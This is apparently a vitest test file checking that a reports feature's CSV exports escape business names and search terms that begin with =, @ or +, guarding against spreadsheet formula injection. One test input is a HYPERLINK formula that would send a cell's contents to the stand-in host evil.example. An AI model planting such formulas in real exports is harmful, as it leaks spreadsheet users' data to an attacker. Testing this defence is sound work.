import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { countsCsv, membersCsv, monthsCsv } from './exports.ts';

// Each CSV export of the Reports tab (and of a member's own report) with text a visitor or a
// member could have put there: a cell a spreadsheet would run comes out escaped with a quote.

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
const read = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('the Reports CSV exports', () => {
	it('members: a business name that starts a formula is escaped', () => {
		expect(
			read(
				membersCsv([
					{ businessId: 'a', name: FORMULA, shown: 5, views: 4, actions: 3 },
					{ businessId: 'b', name: '@Home Plumbing', shown: 1, views: 0, actions: 0 },
					{ businessId: 'c', name: 'Cedar Diner', shown: 2, views: 1, actions: 0 },
				]),
			),
		).toEqual([
			['Business', 'Shown', 'Profile views', 'Actions'],
			[`'${FORMULA}`, '5', '4', '3'],
			["'@Home Plumbing", '1', '0', '0'],
			['Cedar Diner', '2', '1', '0'],
		]);
	});

	it('months: the month and its numbers, as they are', () => {
		expect(read(monthsCsv([{ month: '2026-10', shown: 9, views: 7, actions: 1 }]))).toEqual([
			['Month', 'Shown', 'Profile views', 'Actions'],
			['2026-10', '9', '7', '1'],
		]);
	});

	it('search words and actions: a text that starts a formula is escaped', () => {
		expect(
			read(
				countsCsv(
					['Searched for', 'Views'],
					[
						[FORMULA.toLowerCase(), 40],
						['+1 555 0100', 2],
						['harbour boats', 9],
					],
				),
			),
		).toEqual([
			['Searched for', 'Views'],
			[`'${FORMULA.toLowerCase()}`, '40'],
			["'+1 555 0100", '2'],
			['harbour boats', '9'],
		]);
		expect(read(countsCsv(['Action', 'Count'], [['Website', 6]]))).toEqual([
			['Action', 'Count'],
			['Website', '6'],
		]);
	});
});
